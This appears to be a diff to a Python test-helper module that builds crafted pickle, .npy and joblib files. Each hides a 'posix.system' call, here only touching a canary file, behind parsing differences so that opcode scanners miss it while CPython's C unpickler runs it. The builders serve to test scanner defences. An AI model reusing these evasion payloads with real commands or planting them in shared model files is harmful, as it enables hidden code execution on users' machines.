@@ -11,6 +11,7 @@ import pickle
 import pickletools
 import struct
 import zipfile
+from collections.abc import Callable
 from pathlib import Path
 
 
@@ -204,3 +205,87 @@ def assert_valid_pickle(payload: bytes) -> None:
 
 def dumps(obj: object, protocol: int = 4) -> bytes:
     return pickle.dumps(obj, protocol=protocol)
+
+
+# ---- parser differentials: streams the C unpickler reads differently from a linear scan ----
+
+
+def hidden_system_call(canary: Path) -> bytes:
+    """``posix.system('touch <canary>')`` as protocol-0/1 opcodes, to hide inside other bytes."""
+    command = touch(canary).encode()
+    return b"cposix\nsystem\nX" + struct.pack("<I", len(command)) + command + b"\x85R"
+
+
+def frame_overrun(canary: Path, *, reader_buffer: int = 8192) -> bytes:
+    """A protocol-5 pickle whose BINBYTES runs across the end of a 2-byte FRAME.
+
+    A linear reader (pickletools, every opcode scanner) reads one BINBYTES of 0x1xx bytes
+    that swallows the hidden call. The C unpickler (CPython before the frame checks of
+    gh-154848) loads the 2-byte frame into its buffer, reads the opcode from it, then
+    refills the buffer from the file for the 4-byte length and drops the byte left in
+    the frame: the length it sees is 1, so the bytes it runs next are the hidden call.
+    With a reader that has no ``peek`` (``io.BytesIO``, as torch.load uses for zip
+    members) every frame does that; with a buffered file only a frame that crosses the
+    end of the file buffer does, so the frame is placed there: ``reader_buffer`` bytes
+    from the stream's start (pass the stream's offset into the file when it is embedded).
+    """
+    call = hidden_system_call(canary)
+    body = b"\x00\x00" + call + b"("  # MARK: the real unpickler ends the run with POP_MARK
+    assert len(body) < 0x100, "the canary path is too long for a one-byte length tail"
+    length = 0x100 | 0x07  # bytes [07 01 00 00]; the C reader drops the 07 and reads [01 00 00 body0=00]
+    head = b"\x80\x05N"  # PROTO 5, NONE
+    frame_at = reader_buffer - 1 - 9  # the frame's 2 bytes straddle the buffer's end
+    filler = frame_at - len(head) - 2 - 1 - 1  # UNICODE's "V" and "\n", POP, MARK
+    assert filler > 0
+    stream = head + b"V" + b"a" * filler + b"\n" + b"0" + b"("
+    stream += b"\x95" + struct.pack("<Q", 2) + b"B" + struct.pack("<I", length)
+    return stream + body.ljust(length, b"N") + b"1."  # POP_MARK, STOP
+
+
+def npy_object_array(pickle_bytes: bytes) -> bytes:
+    """An ``np.save`` file of an object array: the header, then the pickle np.load runs."""
+    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
+    total = 10 + len(header) + 1
+    header += b" " * ((64 - total % 64) % 64) + b"\n"
+    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + pickle_bytes
+
+
+def joblib_with_object_array(nested_pickle: Callable[[int], bytes]) -> bytes:
+    """A real ``joblib.dump`` of an object array whose nested pickle is replaced.
+
+    joblib writes an object array as a wrapper in the outer pickle followed by a separate
+    pickle that ``joblib.load`` reads with ``pickle.load`` (the C unpickler); the builder
+    gets that pickle's offset in the file.
+    """
+    import joblib
+    import numpy as np
+
+    objects = np.array([None, 1], dtype=object)
+    buffer = io.BytesIO()
+    joblib.dump({"objects": objects}, buffer)
+    data = buffer.getvalue()
+    # The wrapper's state dict ends with SETITEMS ("u"), then BUILD ("b"); the nested pickle follows.
+    start = data.index(b"ub\x80", data.index(b"NumpyArrayWrapper")) + 2
+    end = start + next(pos for op, _, pos in pickletools.genops(data[start:]) if op.name == "STOP") + 1
+    return data[:start] + nested_pickle(start) + data[end:]
+
+
+def frame_nested_inside_frame() -> bytes:
+    """A FRAME opcode inside the bytes of another frame (pickle.py raises; C reads on)."""
+    inner = b"\x95" + struct.pack("<Q", 2) + b"N."
+    return b"\x80\x05\x95" + struct.pack("<Q", len(inner) + 4) + inner + b"NNNN"
+
+
+def bytes_after_stop_in_frame(canary: Path) -> bytes:
+    """The last frame goes on past STOP: a file reader resumes after the frame, and a second
+    ``pickle.load`` on the same file starts at the call hidden behind the STOP."""
+    first = b"N."
+    trailing = b"\x80\x02" + hidden_system_call(canary) + b"."
+    hidden = b"XXXX"  # inside the frame, after STOP: skipped by a file reader
+    frame = first + hidden
+    return b"\x80\x05\x95" + struct.pack("<Q", len(frame)) + frame + trailing
+
+
+def misplaced_proto(canary: Path) -> bytes:
+    """A second PROTO in the middle of the stream (no pickler writes one)."""
+    return b"\x80\x04N0\x80\x02" + hidden_system_call(canary) + b"."
